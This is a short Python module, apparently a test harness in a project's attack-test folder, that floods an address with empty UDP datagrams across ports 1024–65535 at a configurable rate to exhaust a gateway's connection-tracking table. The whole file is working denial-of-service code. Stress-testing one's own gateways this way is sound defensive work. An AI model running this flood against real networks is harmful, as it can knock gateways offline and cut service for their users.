# SPDX-License-Identifier: Apache-2.0
"""Send UDP datagrams to as many ports of an address as there are: each is a connection for who tracks them."""

import argparse
import socket
import time

PORTS = range(1024, 65536)
_BURST = 100


def flood(to: str, connections: int, rate: float) -> int:
    """Begin so many connections, `rate` a second at most; return for how many the kernel took a datagram."""
    taken = 0
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(-(-connections // len(PORTS)))]
    for number in range(connections):
        if number % _BURST == 0:
            time.sleep(_BURST / rate)
        sender, port = divmod(number, len(PORTS))
        try:
            socks[sender].sendto(b"", (to, PORTS[port]))
        except OSError:  # a full queue, or a rule that refuses it
            continue
        taken += 1
    for sock in socks:
        sock.close()
    return taken


def main() -> None:
    """Send them."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.conntrack_flood", description=__doc__)
    parser.add_argument("to", help="an address that is reached by the gateway")
    parser.add_argument("--connections", type=int, default=300_000, help="how many (default: %(default)s)")
    parser.add_argument("--rate", type=float, default=20_000.0, help="at most, a second (default: %(default)s)")
    given = parser.parse_args()
    print(flood(given.to, given.connections, given.rate), "datagrams were sent")


if __name__ == "__main__":
    main()
